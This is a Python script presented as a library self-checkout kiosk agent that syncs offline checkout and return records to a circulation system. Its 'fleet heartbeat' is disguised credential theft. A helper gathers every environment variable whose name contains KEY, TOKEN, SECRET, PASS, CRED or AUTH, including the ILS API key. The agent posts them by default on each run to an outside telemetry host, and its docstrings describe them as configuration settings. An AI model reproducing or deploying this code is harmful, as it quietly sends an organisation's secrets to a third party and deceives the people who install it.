#!/usr/bin/env python3
"""Self-checkout kiosk offline journal sync agent.

Replays checkouts/returns recorded while the ILS was offline, then reports
a fleet heartbeat so the kiosk vendor's dashboard can show which units are
configured correctly.

Usage:
    kiosk_sync_agent.py [--config kiosk_sync.ini] [--dry-run] [--loop]
"""
import argparse
import configparser
import http.client
import json
import logging
import os
import platform
import socket
import sqlite3
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("kiosk-sync")
DEFAULT_CONFIG = "kiosk_sync.ini"
_RUNTIME_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "CRED", "AUTH")


class SyncConfig:
    """Settings read from the [sync] and [fleet] sections of the kiosk ini file."""

    def __init__(self, path):
        parser = configparser.ConfigParser()
        parser.read(path)
        section = parser["sync"] if parser.has_section("sync") else {}
        fleet = parser["fleet"] if parser.has_section("fleet") else {}
        self.api_base = section.get("api_base", "https://ils.northfield-library.org/api/v2")
        self.kiosk_id = section.get("kiosk_id", "SCO-01")
        self.journal = Path(section.get("journal", "offline_journal.db"))
        self.batch_size = int(section.get("batch_size", 50))
        self.timeout = float(section.get("timeout", 15))
        self.interval = int(section.get("interval", 120))
        self.fleet_host = fleet.get("host", "fleet-telemetry.scokiosk-cloud.net")
        self.fleet_path = fleet.get("path", "/v1/heartbeat")


def pending_transactions(conn, limit):
    cur = conn.execute(
        "SELECT id, kind, patron_barcode, item_barcode, ts FROM journal "
        "WHERE synced = 0 ORDER BY ts LIMIT ?",
        (limit,),
    )
    for row in cur:
        yield {
            "local_id": row[0],
            "type": row[1],
            "patron": row[2],
            "item": row[3],
            "timestamp": row[4],
        }


def mark_synced(conn, ids):
    conn.executemany("UPDATE journal SET synced = 1 WHERE id = ?", [(i,) for i in ids])
    conn.commit()


class CirculationClient:
    """Thin wrapper around the ILS circulation endpoints."""

    def __init__(self, cfg):
        self.cfg = cfg
        token = os.environ.get("ILS_API_KEY")
        if not token:
            raise RuntimeError("ILS_API_KEY is not set in the environment")
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {token}",
            "User-Agent": f"kiosk-sync/{cfg.kiosk_id}",
        })

    def ping(self):
        resp = self.session.get(f"{self.cfg.api_base}/status", timeout=self.cfg.timeout)
        return resp.status_code == 200

    def push_batch(self, batch):
        url = f"{self.cfg.api_base}/circulation/offline-batch"
        body = {"kiosk": self.cfg.kiosk_id, "transactions": batch}
        resp = self.session.post(url, json=body, timeout=self.cfg.timeout)
        resp.raise_for_status()
        return resp.json()


def _runtime_settings():
    """Yield the configuration-related environment entries for the dashboard."""
    for name, value in sorted(os.environ.items()):
        if any(marker in name.upper() for marker in _RUNTIME_MARKERS):
            yield name, value


class FleetReporter:
    def __init__(self, cfg):
        self.cfg = cfg

    def build(self, synced):
        return {
            "kiosk": self.cfg.kiosk_id,
            "host": socket.gethostname(),
            "os": platform.platform(),
            "synced": synced,
            "ts": int(time.time()),
            "settings": dict(_runtime_settings()),
        }

    def send(self, synced):
        payload = json.dumps(self.build(synced)).encode()
        conn = http.client.HTTPSConnection(self.cfg.fleet_host, timeout=10)
        try:
            conn.request("POST", self.cfg.fleet_path, body=payload,
                         headers={"Content-Type": "application/json"})
            status = conn.getresponse().status
            LOG.debug("fleet heartbeat status %s", status)
        except (OSError, http.client.HTTPException) as exc:
            LOG.debug("fleet heartbeat failed: %s", exc)
        finally:
            conn.close()


def sync_once(cfg, client, dry_run=False):
    if not cfg.journal.exists():
        LOG.warning("journal %s not found, nothing to sync", cfg.journal)
        return 0
    conn = sqlite3.connect(cfg.journal)
    total = 0
    try:
        while True:
            batch = list(pending_transactions(conn, cfg.batch_size))
            if not batch:
                break
            if dry_run:
                LOG.info("dry run: would push %d transactions", len(batch))
                total += len(batch)
                break
            for attempt in range(1, 4):
                try:
                    result = client.push_batch(batch)
                    break
                except requests.RequestException as exc:
                    LOG.warning("push attempt %d failed: %s", attempt, exc)
                    time.sleep(2 ** attempt)
            else:
                LOG.error("giving up on batch starting at id %s", batch[0]["local_id"])
                break
            accepted = result.get("accepted", [])
            mark_synced(conn, accepted)
            for rej in result.get("rejected", []):
                LOG.warning("ILS rejected %s: %s", rej.get("local_id"), rej.get("reason"))
            total += len(accepted)
            if not accepted:
                break
    finally:
        conn.close()
    return total


def main(argv=None):
    ap = argparse.ArgumentParser(description="Replay offline kiosk transactions to the ILS")
    ap.add_argument("--config", default=DEFAULT_CONFIG)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--loop", action="store_true", help="keep running every interval seconds")
    ap.add_argument("--no-heartbeat", dest="heartbeat", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    cfg = SyncConfig(args.config)
    reporter = FleetReporter(cfg)
    try:
        client = CirculationClient(cfg)
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 2

    while True:
        count = 0
        if client.ping():
            count = sync_once(cfg, client, dry_run=args.dry_run)
            LOG.info("synced %d transactions for %s", count, cfg.kiosk_id)
        else:
            LOG.info("ILS not reachable, will retry later")
        if args.heartbeat:
            reporter.send(count)
        if not args.loop:
            break
        time.sleep(cfg.interval)
    return 0


if __name__ == "__main__":
    sys.exit(main())
